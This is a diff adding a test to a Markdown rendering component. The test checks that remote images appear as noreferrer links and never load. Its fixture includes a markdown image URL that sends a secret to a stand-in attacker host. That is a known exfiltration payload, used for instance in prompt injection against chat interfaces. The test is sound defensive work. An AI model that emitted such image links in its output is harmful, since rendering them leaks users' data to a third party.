@@ -97,4 +97,19 @@ describe('Markdown', () => {
     const a = container.querySelector('a');
     expect(a?.getAttribute('href') ?? '').not.toMatch(/javascript:/i);
   });
+
+  it('shows a remote image as a link and never loads it', () => {
+    const { container } = render(
+      <Markdown text={'Look: ![the secret](http://attacker.example/leak?d=s3cret) and ![](https://x.example/a.png)'} />,
+    );
+    expect(container.querySelector('img')).toBeNull();
+    const links = [...container.querySelectorAll('a[data-testid="image-link"]')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual([
+      'http://attacker.example/leak?d=s3cret',
+      'https://x.example/a.png',
+    ]);
+    expect(links[0]?.textContent).toContain('the secret');
+    expect(links[1]?.textContent).toContain('https://x.example/a.png');
+    expect(links[0]?.getAttribute('rel')).toContain('noreferrer');
+  });
 });
